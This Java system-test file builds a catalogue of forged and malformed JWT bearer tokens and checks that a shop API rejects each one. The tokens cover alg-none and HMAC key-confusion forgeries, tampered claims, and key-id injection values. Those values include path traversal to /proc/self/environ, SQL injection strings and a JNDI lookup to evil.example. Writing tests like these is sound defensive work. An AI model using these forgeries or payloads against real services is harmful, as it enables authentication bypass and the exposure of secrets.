package dev.hexmart.systemtests.attacks;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.RSAEncrypter;
import dev.hexmart.systemtests.Shop;
import java.net.URI;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.security.spec.MGF1ParameterSpec;
import java.security.spec.PSSParameterSpec;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Every way of getting in without a good token that we could think of. */
final class TokenAttacks {

    private static final String ANOTHER_GUID = "33333333-3333-3333-3333-333333333333";

    private final Forger good;
    private final String idToken;
    private final String bobsToken;
    private final URI bait;
    private final List<Attack> attacks = new ArrayList<>();

    /** @param headers as they stand on the wire; any of {@code statuses} is right */
    record Attack(String name, List<String> headers, String query, Set<Integer> statuses) {

        @Override
        public String toString() {
            return name;
        }
    }

    private TokenAttacks(Forger good, String idToken, String bobsToken, URI bait) {
        this.good = good;
        this.idToken = idToken;
        this.bobsToken = bobsToken;
        this.bait = bait;
    }

    /**
     * All of them.
     *
     * @param good makes tokens that are accepted, unless something in them is changed
     * @param bait where no key is to be looked for
     */
    static List<Attack> all(Forger good, String idToken, String bobsToken, URI bait) {
        TokenAttacks all = new TokenAttacks(good, idToken, bobsToken, bait);
        all.schemes();
        all.algorithms();
        all.claims();
        all.keys();
        all.forms();
        return all.attacks;
    }

    private void schemes() {
        String token = good.token();
        headers("no header");
        headers("an empty header", "Authorization:");
        headers("a scheme without a token", "Authorization: Bearer");
        headers("a scheme and a space", "Authorization: Bearer ");
        headers("a token without a scheme", "Authorization: " + token);
        headers("another scheme", "Authorization: Token " + token);
        headers("a scheme that begins like ours", "Authorization: BearerX " + token);
        headers("a scheme without its space", "Authorization: Bearer" + token);
        headers(
                "a password",
                "Authorization: Basic " + Base64.getEncoder().encodeToString("alice:alice".getBytes(UTF_8)));
        headers("a token for a password", "Authorization: Basic " + token);
        headers("two tokens in one header", "Authorization: Bearer " + token + " " + token);
        headers("two credentials in one header", "Authorization: Bearer " + token + ", Bearer " + token);
        headers("a token in quotes", "Authorization: Bearer \"" + token + "\"");
        headers("two headers", "Authorization: Bearer " + token, "Authorization: Bearer " + token);
        headers("a good header after a bad one", "Authorization: Bearer x", "Authorization: Bearer " + token);
        headers("a password beside the token", "Authorization: Bearer " + token, "authorization: Basic eDp4");
        headers("a header of another name", "X-Authorization: Bearer " + token, "Proxy-Authorization: Bearer " + token);
        headers("a cookie of that name", "Cookie: access_token=" + token + "; Authorization=" + token);
        attacks.add(new Attack("a token in the address", List.of(), "?access_token=" + token, Set.of(401)));
        headers("who one claims to be", "X-User: alice", "X-Forwarded-User: alice", "X-MS-CLIENT-PRINCIPAL-ID: alice");
        attacks.add(new Attack(
                "a letter that is none", List.of("Authorization: Bearer " + token + "\u00e9"), "", Set.of(400, 401)));
        attacks.add(new Attack(
                "a NUL after the token", List.of("Authorization: Bearer " + token + "\0"), "", Set.of(400, 401)));
    }

    private void algorithms() {
        String content = good.header("alg", "\"none\"").content();
        token("alg none without a signature", content + ".");
        token("alg none without the last dot", content);
        for (String none : List.of("none", "None", "nOnE", "NONE")) {
            token(
                    "alg " + none + ", signed",
                    good.header("alg", "\"" + none + "\"").token());
            token(
                    "alg " + none + " with any signature",
                    good.header("alg", "\"" + none + "\"").content() + ".AAAA");
        }
        byte[] der = good.publicKey().getEncoded();
        String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n";
        token("HS256 with the public key as PEM", hmac("HS256", "HmacSHA256", pem.getBytes(US_ASCII)));
        token(
                "HS256 with the public key as PEM, stripped",
                hmac("HS256", "HmacSHA256", pem.strip().getBytes(US_ASCII)));
        token("HS256 with the public key as DER", hmac("HS256", "HmacSHA256", der));
        token(
                "HS256 with the modulus",
                hmac("HS256", "HmacSHA256", good.publicKey().getModulus().toByteArray()));
        token("HS256 with the key's id", hmac("HS256", "HmacSHA256", keyId().getBytes(US_ASCII)));
        token("HS512 with the public key as DER", hmac("HS512", "HmacSHA512", der));
        token("RS384", good.sign(good.header("alg", "\"RS384\"").content(), "SHA384withRSA"));
        token("RS512", good.sign(good.header("alg", "\"RS512\"").content(), "SHA512withRSA"));
        token("PS256", pss());
        token("ES256", elliptic());
        token("rs256 in small letters", good.header("alg", "\"rs256\"").token());
        token("no alg", good.withoutHeader("alg").token());
        token("alg null", good.header("alg", "null").token());
        token("alg a number", good.header("alg", "256").token());
        token("alg a list", good.header("alg", "[\"RS256\"]").token());
        token("alg empty", good.header("alg", "\"\"").token());
        token("alg of encryption", good.header("alg", "\"RSA-OAEP-256\"").token());
        token("alg twice", good.header("alg", "\"none\",\"alg\":\"RS256\"").token());
    }

    private void claims() {
        String issuer = good.text("iss");
        changed("another issuer", good.text("iss", "https://login.evil.example/" + Shop.TENANT + "/v2.0"));
        changed("no issuer", good.without("iss"));
        changed("issuers as a list", good.claim("iss", "[\"" + issuer + "\"]"));
        changed("our issuer with more after it", good.text("iss", issuer + ".evil.example"));
        changed("our issuer with a slash", good.text("iss", issuer + "/"));
        changed("our issuer, cut short", good.text("iss", issuer.substring(0, issuer.length() - 1)));
        changed("our issuer in capitals", good.text("iss", issuer.replace("v2", "V2")));
        changed("the issuer of version 1", good.text("iss", "https://sts.windows.net/" + Shop.TENANT + "/"));
        changed("another audience", good.text("aud", ANOTHER_GUID));
        changed("no audience", good.without("aud"));
        changed("audiences, ours among them", good.claim("aud", "[\"" + Shop.CLIENT + "\",\"" + ANOTHER_GUID + "\"]"));
        changed("our audience with more after it", good.text("aud", Shop.CLIENT + "0"));
        changed("our audience as an address", good.text("aud", "api://" + Shop.CLIENT));
        changed("an audience of Microsoft's", good.text("aud", "https://graph.microsoft.com"));
        changed("another tenant", good.text("tid", ANOTHER_GUID));
        changed(
                "another tenant, issuer and all",
                good.text("tid", ANOTHER_GUID).text("iss", issuer.replace(Shop.TENANT, ANOTHER_GUID)));
        changed("no tenant", good.without("tid"));
        changed("version 1.0", good.text("ver", "1.0"));
        changed("no version", good.without("ver"));
        changed("a version that is a number", good.claim("ver", "2.0"));
        changed("no expiry", good.without("exp"));
        changed("expired", good.time("exp", -120));
        changed("expiry as text", good.text("exp", Long.toString(Forger.now() + 3600)));
        changed("expiry beyond all calendars", good.claim("exp", "9223372036854775807"));
        changed("expiry beyond all numbers", good.claim("exp", "1e400"));
        changed("a negative expiry", good.claim("exp", "-1"));
        changed("expiry in fractions", good.claim("exp", (Forger.now() + 3600) + ".5"));
        changed("expiry null", good.claim("exp", "null"));
        changed("expiry in a year", good.time("exp", 365 * 24 * 3600));
        changed("a start in the future", good.time("nbf", 600));
        changed("no start", good.without("nbf"));
        changed("issued in the future", good.time("iat", 600));
        changed("no time of issue", good.without("iat"));
        changed("a client that may not call us", good.text("azp", ANOTHER_GUID));
        changed("no client", good.without("azp"));
        changed("no scope", good.without("scp"));
        changed("an empty scope", good.text("scp", ""));
        changed("scopes as a list", good.claim("scp", "[\"access_as_user\"]"));
        changed("no scope, but roles", good.without("scp").claim("roles", "[\"Catalog.Manage\",\"Orders.Manage\"]"));
        changed("an application with a scope", good.text("idtyp", "app"));
        changed("no object", good.without("oid"));
        changed("an object that is no GUID", good.text("oid", "alice"));
        changed("an object that is a key of ours", good.text("oid", "*"));
        changed("no subject", good.without("sub"));
        token("an ID token", idToken);
    }

    private void keys() {
        RSAPublicKey stranger = (RSAPublicKey) Forger.STRANGER.getPublic();
        Forger strangers = good.signedBy(Forger.STRANGER.getPrivate());
        String own = "\"own\"";
        changed("a stranger's key under our key's id", strangers);
        changed("a stranger's key under its own id", strangers.header("kid", own));
        changed("a key in the header", strangers.header("jwk", Forger.jwk(stranger, keyId())));
        changed(
                "a key in the header, under its own id",
                strangers.header("kid", own).header("jwk", Forger.jwk(stranger, "own")));
        changed("a link to keys", strangers.header("kid", own).header("jku", "\"" + bait + "keys\""));
        changed("a link to keys, signed well", good.header("jku", "\"" + bait + "keys\""));
        changed("a link to a certificate", strangers.header("kid", own).header("x5u", "\"" + bait + "certificate\""));
        changed(
                "a certificate in the header",
                strangers.header("x5c", "[\"" + Base64.getEncoder().encodeToString(stranger.getEncoded()) + "\"]"));
        changed("a critical extension", good.header("crit", "[\"exp\"]").header("exp", "1"));
        changed("a critical extension that is empty", good.header("crit", "[]"));
        changed("an unencoded payload", good.header("crit", "[\"b64\"]").header("b64", "false"));
        changed("an encoded payload that says so", good.header("b64", "true"));
        changed("compression", good.header("zip", "\"DEF\""));
        changed("the type of something else", good.header("typ", "\"dpop+jwt\""));
        token("a token within a token", good.header("cty", "\"JWT\"").token(good.token()));
        changed("no key id", good.withoutHeader("kid"));
        for (String id : List.of(
                "",
                "unknown",
                "../../../../dev/null",
                "../identity/000001.pkcs8",
                "/proc/self/environ",
                "x' OR '1'='1",
                "x' UNION SELECT 'key' --",
                "https://evil.example/keys",
                "${jndi:ldap://evil.example/a}",
                "%00",
                "x".repeat(4000))) {
            String shown = id.length() > 40 ? id.substring(0, 10) + "…" : id;
            changed("the key id '" + shown + "'", strangers.header("kid", "\"" + id + "\""));
        }
        changed("the key id null", good.header("kid", "null"));
        changed("a key id that is a number", good.header("kid", "1"));
        changed("a key id that is a list", good.header("kid", "[\"" + keyId() + "\"]"));
        changed("our key id with a NUL after it", good.header("kid", "\"" + keyId() + "\\u0000\""));
    }

    private void forms() {
        String token = good.token();
        String[] parts = token.split("\\.");
        String[] bobs = bobsToken.split("\\.");
        token("an encrypted token", encrypted(token));
        token("five parts", token + ".AAAA.AAAA");
        token(
                "the JSON serialisation",
                "{\"protected\":\"%s\",\"payload\":\"%s\",\"signature\":\"%s\"}"
                        .formatted(parts[0], parts[1], parts[2]));
        token("one part", parts[1]);
        token("two parts", parts[0] + "." + parts[1]);
        token("four parts", token + ".AAAA");
        token("a dot before", "." + token);
        token("dots alone", "..");
        token("no token at all", "null");
        token("a token without its header", "." + parts[1] + "." + parts[2]);
        token("a token without its payload", parts[0] + ".." + parts[2]);
        token("an empty signature", parts[0] + "." + parts[1] + ".");
        token("a signature cut short", token.substring(0, token.length() - 4));
        token("a signature of zeros", parts[0] + "." + parts[1] + "." + Forger.encode(new byte[256]));
        token("a signature that is too long", token + "AAAA");
        token("one bit of the signature changed", flipped(parts));
        token("the signature of another token", parts[0] + "." + parts[1] + "." + bobs[2]);
        token("the claims of another token", parts[0] + "." + bobs[1] + "." + parts[2]);
        token(
                "roles added after signing",
                parts[0] + "."
                        + good.claim("roles", "[\"Orders.Manage\"]").content().split("\\.")[1] + "." + parts[2]);
        token("padding", parts[0] + "==." + parts[1] + "." + parts[2]);
        token(
                "the other alphabet of base64",
                parts[0] + "." + parts[1] + "." + parts[2].replaceFirst("[A-Za-z0-9]", "+"));
        token("a space within", parts[0] + ". " + parts[1] + "." + parts[2]);
        token("a tab within", parts[0] + ".\t" + parts[1] + "." + parts[2]);
        token("a percent sign", token + "%20");
        token("a header that is no JSON", Forger.encode("alg") + "." + parts[1] + "." + parts[2]);
        token("a header that is null", Forger.encode("null") + "." + parts[1] + "." + parts[2]);
        token("a header that is a list", Forger.encode("[]") + "." + parts[1] + "." + parts[2]);
        token("a payload that is a list", good.token("[]"));
        token("a payload that is text", good.token("\"alice\""));
        token("a payload that is null", good.token("null"));
        token("a payload that is not UTF-8", good.token(new byte[] {'{', '"', (byte) 0xff, '"', ':', '1', '}'}));
        token("a payload that breaks off", good.token("{\"aud\":"));
        token("claims nested deep", good.token("{\"a\":".repeat(900) + "1" + "}".repeat(900)));
        String deep = Forger.encode("{\"alg\":\"RS256\",\"a\":" + "[".repeat(900) + "]".repeat(900) + "}");
        token("a header nested deep", good.sign(deep + "." + parts[1], "SHA256withRSA"));
        changed("9 KB", good.text("name", "x".repeat(9 * 1024)));
        attack("17 KB", "x".repeat(17 * 1024), Set.of(431));
        // So much is still under way when the answer comes that the connection may be gone before it is read.
        attack("100 KB", "x".repeat(100 * 1024), Set.of(431, HUNG_UP));
    }

    /** In place of a status: the server ended the connection without a word. */
    static final int HUNG_UP = 0;

    private void headers(String name, String... headers) {
        attacks.add(new Attack(name, Stream.of(headers).toList(), "", Set.of(401)));
    }

    private void changed(String name, Forger forger) {
        token(name, forger.token());
    }

    private void token(String name, String token) {
        attack(name, token, Set.of(401));
    }

    private void attack(String name, String token, Set<Integer> statuses) {
        attacks.add(new Attack(name, List.of("Authorization: Bearer " + token), "", statuses));
    }

    private String keyId() {
        return good.header().get("kid").replace("\"", "");
    }

    private String hmac(String algorithm, String mac, byte[] secret) {
        try {
            String content = good.header("alg", "\"" + algorithm + "\"").content();
            Mac hmac = Mac.getInstance(mac);
            hmac.init(new SecretKeySpec(secret, mac));
            return content + "." + Forger.encode(hmac.doFinal(content.getBytes(ISO_8859_1)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String pss() {
        try {
            String content = good.header("alg", "\"PS256\"").content();
            Signature signature = Signature.getInstance("RSASSA-PSS");
            signature.setParameter(new PSSParameterSpec("SHA-256", "MGF1", MGF1ParameterSpec.SHA256, 32, 1));
            signature.initSign(good.key());
            signature.update(content.getBytes(ISO_8859_1));
            return content + "." + Forger.encode(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String elliptic() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
            generator.initialize(new ECGenParameterSpec("secp256r1"));
            KeyPair pair = generator.generateKeyPair();
            String content = good.header("alg", "\"ES256\"").content();
            Signature signature = Signature.getInstance("SHA256withECDSAinP1363Format");
            signature.initSign(pair.getPrivate());
            signature.update(content.getBytes(ISO_8859_1));
            return content + "." + Forger.encode(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String encrypted(String token) {
        try {
            JWEObject jwe = new JWEObject(
                    new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A256GCM)
                            .keyID(keyId())
                            .contentType("JWT")
                            .build(),
                    new Payload(token));
            jwe.encrypt(new RSAEncrypter(good.publicKey()));
            return jwe.serialize();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String flipped(String[] parts) {
        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
        signature[100] ^= 1;
        return parts[0] + "." + parts[1] + "." + Forger.encode(signature);
    }
}
